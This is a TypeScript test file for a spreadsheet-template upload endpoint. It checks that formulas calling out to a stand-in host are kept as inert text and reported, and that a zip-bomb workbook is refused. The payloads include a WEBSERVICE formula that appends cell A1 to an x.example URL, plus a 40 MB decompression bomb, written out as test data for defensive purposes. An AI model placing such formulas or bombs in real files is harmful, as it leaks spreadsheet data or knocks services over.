import { strToU8, unzipSync, zipSync } from 'fflate'
import { writeXlsx } from 'hucre/xlsx'
import { expect, test } from 'vitest'
import { paperTemplate } from '#contract/paper-template.ts'
import { testServer } from '#server/kernel/testing.ts'

const server = await testServer()
const admin = await server.as('admin', '王管理')

test('an uploaded spreadsheet reaches for nothing outside: what calls out is text, is reported, and is no binding', async () => {
  const out = ['WEBSERVICE("http://x.example/"&A1)', '[1]Sheet1!A1', 'HYPERLINK("http://x.example","x")']
  const rows = [
    ['项目', '金额'],
    ['库存现金', '=QC("1001",月)+WEBSERVICE("http://x.example")'],
    ['公式', '{{bal(#1002, close)}}'],
  ]
  const cells = new Map(out.map((formula, at) => [`${5 + at},1`, { formula }]))
  const content = Buffer.from(await writeXlsx({ sheets: [{ name: '外联', rows, cells }] }))
  const { id, report } = await admin.upload(
    paperTemplate.create,
    { name: '外联模板', category: 1 },
    { name: '外联.xlsx', content },
  )
  const { bound } = await admin(paperTemplate.detail, { id })
  expect(bound.map(({ key }) => key)).toEqual(['B3'])
  expect(report.found.find(({ cell }) => cell === 'B2')).toMatchObject({
    expression: '',
    words: [expect.stringContaining('WEBSERVICE')],
  })
  expect(JSON.stringify(report.left)).toContain('B6')
  const { book } = await admin(paperTemplate.book, { id })
  const stored = book.sheets[0]?.cells.filter(({ c, r }) => c === 1 && r >= 5)
  expect(stored?.map(({ v, f }) => [v, f])).toEqual(out.map((formula) => [`=${formula}`, undefined]))
})

test('an uploaded spreadsheet may have 16,384 columns; a bomb is refused in words, and nothing is made of it', async () => {
  const head = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
  const cell =
    '<row r="1"><c r="A1"><v>1</v></c><c r="XFD1" t="inlineStr"><is><t>{{bal(#1001, close)}}</t></is></c></row>'
  const wide = unzipSync(await writeXlsx({ sheets: [{ name: '宽', rows: [[1]] }] }))
  wide['xl/worksheets/sheet1.xml'] = strToU8(`${head}${cell}</sheetData></worksheet>`)
  const send = (name: string, content: Uint8Array) =>
    admin.upload(paperTemplate.create, { name, category: 1 }, { name: `${name}.xlsx`, content: Buffer.from(content) })
  const { id } = await send('宽模板', zipSync(wide))
  expect((await admin(paperTemplate.detail, { id })).bound.map(({ key }) => key)).toEqual(['XFD1'])
  wide['xl/worksheets/sheet1.xml'] = new Uint8Array(40 * 1024 * 1024)
  await expect(send('炸弹模板', zipSync(wide))).rejects.toMatchObject({
    code: 400,
    message: expect.stringMatching(/[\u4e00-\u9fff]{6}/),
  })
  expect((await admin(paperTemplate.list, { name: '炸弹模板' })).total).toBe(0)
})
